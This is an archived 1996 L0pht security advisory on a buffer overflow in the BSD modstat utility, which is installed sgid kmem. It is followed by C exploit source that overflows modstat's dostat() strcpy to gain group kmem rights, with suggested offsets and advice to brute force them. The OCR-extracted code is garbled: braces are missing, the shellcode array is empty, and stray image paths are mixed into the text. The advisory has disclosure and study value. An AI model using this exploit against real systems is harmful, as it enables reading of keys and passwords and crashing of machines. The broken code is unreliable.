TUCoPS :: BSD :: x86bsd_m.txt

BSD modstat flaw - users get kmem permissions

                          L0pht Security Advisory
                       Advisory released Dec 9 1996

                           Application: modstat

                 Vulnerability Scope: systems with the *BSD
                    distribution of modstat sgid kmem

               Severity: Users can gain group kmem permissions
                and thus read DES keys, passwords, and in certain
                situations panic the machine (you know, the standard
                things you can do with group kmem perms).

                        Author: mudge@l0pht.com


 Modstat is sgid kmem which is really handy to become if you feel
 like looking through /dev/mem and /dev/kmem (gee, wonder what
 you might want to do that for <grin>). Like just about everything
 else under the sun it has a buffer overflow problem. The problem
 exists in the dostat() routine where an arbitrary sized string
 is shoved into sbuf.name through a strcpy().

 It is also possible to panic many systems by reading through
 all memory. With memory mapped architectures you will set
 various flags for having read values and touched registers -
 since the system is expecting these registers to be in certain states,
 tripping them to other states can cause bizarre results can occur. A
 quick example is to md5 through your interface to memory and watch
 the confusion that can occur in certain systems ;-) So yes, in many cases
 being group kmem will let you shutdown a machine in a roundabout way...
 even with just Read-Only abilities.

 The difference between this and some other buffer overflow code is
 that this, much like my originalsyslog() code has to be placed "after"
 the saved stack frame since you only have under 57 bytes to deal with.
 However, we don't care that we might be munging the original args and
 environment vars now do we ;-). Care must still be taken to make sure the
 code does not contain NULL's as strcpy will end upon it's first NULL.


Check out http://www.l0pht.com/advisories.html for other l0pht advisories

 * modstat buffer overflow code - mudge@l0pht.com                   *
 * 8/11/96                                                          *
 * Done initially on FreeBSD as my BSDI box is down right now...    *
 * sigh. It should work on any x86 arch with the standard *BSD      *
 * implementation as they all use the same opcodes and operands.    *
 * Go grab the splitvt code if you want this to work on Linux.      *
 *                                                                  *
 * try with offsets of -48, 7, 271, 326 with the way this is curr.  *
 * setup. If these fail, brute force it <grin>.                     *
 *                                                                  *
 * Many thanks to bitwrior for initially finding the code problem   *
 * in modstat and pointing it out to me - It's always nice when     *
 * someone hands you a bone to gnaw on without wanting              *
 * anything in particular out of it [this I know 'cause he has no   *
 * problems writing this sort of thing on hisown].                 *

#include <stdio.h>
#include <stdlib.h>

long get_esp(void)
   __asm__("movl %esp, %eax\n");

main(int argc, char **argv)
   int i, j, offset;
   char *bar, *foo;
   unsigned long *esp_plus = NULL;

   char mach_codes[] =

   if (argc == 2)
     offset = atoi(argv[1]);
   else {
     fprintf(stderr, "Usage: %s offset\n", argv[0]);

   bar = malloc(4096);
   if (!bar){
     printf("failed to malloc memory\n");

   foo = bar;  /* copy oforiginal ptr */

   esp_plus= (long *)bar;
   for(i=0; i < 24 ; i++)
     *(esp_plus++) = (get_esp() + offset);

   printf("Using offset (0x%x)\n", (get_esp() + offset));

   bar = (char *)esp_plus;

   for(j=0;j< strlen(mach_codes); j++)
     *(bar++) = mach_codes[j];

   *bar = 0;

   execl("/usr/bin/modstat", "modstat", "-n", foo, NULL);

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layoutcopyright © 1986-2024 AOH